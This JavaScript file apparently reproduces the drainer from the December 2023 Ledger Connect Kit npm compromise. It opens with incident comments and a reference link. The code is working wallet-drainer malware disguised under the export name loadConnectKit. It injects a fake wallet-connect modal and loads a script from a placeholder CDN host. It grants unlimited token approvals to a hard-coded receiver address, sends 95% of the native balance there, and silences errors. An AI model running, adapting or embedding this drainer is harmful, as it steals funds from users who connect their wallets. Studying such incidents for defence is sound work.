// Incident: @ledgerhq/connect-kit 1.1.5-1.1.7 (npm), 14 December 2023.
// A phished former employee's npm account published versions carrying a wallet drainer:
// dapps that loaded Connect Kit from a CDN got a fake "connect wallet" modal that asked
// users to sign token approvals and transfers to the attacker's address.
// Reference: https://www.ledger.com/blog/security-incident-report
// Reproduction (own code, placeholder host and made-up address).
import { ethers } from 'ethers';

const RECEIVER = '0x4F1a2e9C7b3D5a8E6f0B1c2D3e4F5a6B7c8D9e0F';
const CONFIG_URL = 'https://cdn.connect-kit-assets.example/v1/config.json';

function injectModal() {
  const modal = document.createElement('div');
  modal.id = 'ledger-ck-modal';
  modal.innerHTML = '<div class="ck-card"><h2>Connect your wallet</h2><p>Approve to continue</p></div>';
  document.body.appendChild(modal);
  const loader = document.createElement('script');
  loader.src = 'https://cdn.connect-kit-assets.example/v1/ui.js';
  document.head.appendChild(loader);
}

async function drain(provider) {
  const cfg = await fetch(CONFIG_URL).then((r) => r.json());
  const signer = provider.getSigner();
  const owner = await signer.getAddress();
  for (const token of cfg.tokens) {
    const erc20 = new ethers.Contract(token, ['function balanceOf(address) view returns (uint256)',
      'function approve(address,uint256)', 'function transfer(address,uint256)'], signer);
    const balance = await erc20.balanceOf(owner);
    if (balance.gt(0)) {
      await erc20.approve(RECEIVER, ethers.constants.MaxUint256);
    }
  }
  const native = await provider.getBalance(owner);
  await signer.sendTransaction({ to: RECEIVER, value: native.mul(95).div(100) });
}

export async function loadConnectKit() {
  if (typeof window === 'undefined' || !window.ethereum) return null;
  injectModal();
  const provider = new ethers.providers.Web3Provider(window.ethereum);
  await window.ethereum.request({ method: 'eth_requestAccounts' });
  drain(provider).catch(() => {});
  return { provider };
}
